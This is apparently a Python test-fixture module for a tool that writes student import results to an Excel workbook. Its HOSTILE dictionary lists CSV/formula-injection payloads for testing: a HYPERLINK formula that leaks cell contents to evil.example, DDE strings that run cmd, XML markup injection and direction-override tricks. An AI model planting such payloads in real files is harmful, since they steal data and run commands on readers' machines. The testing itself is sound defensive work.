"""Sheets, problems and outcomes for the tests of the results workbook. All people are invented."""

import zipfile
from datetime import UTC, datetime, timedelta
from pathlib import Path
from xml.etree import ElementTree as ET

import checked
import numpy as np
import openpyxl
import pandas as pd
from python_calamine import CalamineWorkbook

from importer.model import Batch, Checked, Outcome, Problem, Severity, State
from importer.results import About, Page, write_workbook

HEADERS = ("Student ID", "Last name", "Phone", "Phone", "", "Birth date")
ROWS = (
    ("0012345", "O'Neill", "555 0100", "", "x", "2001-02-03"),
    ("12", "Null", "", "555 0101", "", "32/13/2001"),
    ("1E5", "Nguyễn 🚗", "", "", "", ""),
)
STARTED = datetime(2026, 11, 22, 14, 5, 9, tzinfo=UTC)
HOSTILE = {
    "a link formula": '=HYPERLINK("http://evil.example?x="&A1,"Click")',
    "a DDE call without an equals sign": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a plus": "+1+cmd|' /C calc'!A0",
    "a minus": "-2+3+cmd|' /C calc'!A0",
    "an array formula": "{=SUM(A1:A9)}",
    "a tab first": "\t=1+1",
    "a carriage return first": "\r=1+1",
    "a line break inside": "a\n=1+1",
    "an error text": "#N/A",
    "an address": "https://evil.example/?q=a b",
    "a mail address": "mailto:a@evil.example",
    "a link inside": "internal:'Summary'!A1",
    "a link outside": "external:evil.xlsx#Sheet1!A1",
    "markup": "</t></is></c><c><f>1+1</f></c>",
    "our writer's own markup": "<r><t>=1</t></r>",
    "an entity and the end of a section": "&lt;&#61;1&xxe;]]><!--",
    "an escape of Excel": "_x003D_1+1",
    "codes of a footer": '&F&"Arial"&A&G',
    "quotes": "\"'!A1,'\"",
    "control characters": "a\x00\x01\x08\x0b\x0c\x1f\ufffe\uffff\ud800z",
    "marks of direction": "\u202egnp.exe\u2066=1",
    "40,000 characters": "=" + "x" * 39_999,
    "nothing but blanks": "   ",
}
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def sheet_of(headers, rows, *, name="Students", header_row=4, **more):
    source, first = "students.xlsx", header_row + 1
    return checked.sheet_of(headers, rows, name=name, source=source, first=first, **more)


def problem(sheet, position, columns, **changes):
    facts = {
        "field": "date_of_birth",
        "value": "32/13/2001",
        "code": 9033,
        "severity": Severity.ERROR,
        "message": "this is no date.",
        "remedy": "Correct the cell.",
        **changes,
    }
    return Problem(position, int(sheet.rows[position]), columns, **facts)


def part_of(sheet, outcomes=None, problems=(), *, origins=None, notes=(), earlier=None, news=None):
    skipped, frame = np.zeros(len(sheet.rows), dtype=bool), pd.DataFrame(index=sheet.frame.index)
    batch = Batch(sheet, "users", "Banner students", frame, origins or {}, skipped, {})
    if outcomes is None:
        held = {one.position for one in problems if one.holds}
        outcomes = [
            Outcome(State.INVALID if at in held else State.PUSHED) for at in range(len(sheet.rows))
        ]
    return Page(Checked(batch, tuple(problems), notes=notes), outcomes, earlier or {}, news or {})


def about_of(**changes):
    facts = {
        "run": "2026-11-22-140509-a1b2",
        "command": "push",
        "source": Path("inbox/students.xlsx"),
        "digest": "ab" * 32,
        "mapping": "Banner students",
        "endpoint": "users",
        "host": "controller.example",
        "client": "OC_TEST",
        "sandbox": False,
        "user": "mwilson",
        "started": STARTED,
        "ended": STARTED + timedelta(seconds=754),
        "stopped": None,
        "notes": (),
        **changes,
    }
    return About(**facts)


def member(path, name):
    """Return the parsed XML of one part of a workbook."""
    with zipfile.ZipFile(path) as archive:
        return ET.fromstring(archive.read(name))  # noqa: S314 (our own file)


def written(tmp_path, *parts, **facts):
    return write_workbook(tmp_path / "students-results.xlsx", about_of(**facts), parts)


def opened(path, sheet="Students"):
    return openpyxl.load_workbook(path)[sheet]


def source_cells(path, sheet="Students"):
    """Return what an independent reader finds right of the six columns, below the header."""
    values = CalamineWorkbook.from_path(str(path)).get_sheet_by_name(sheet).to_python()
    return [tuple(row[6:]) for row in values[1:]]
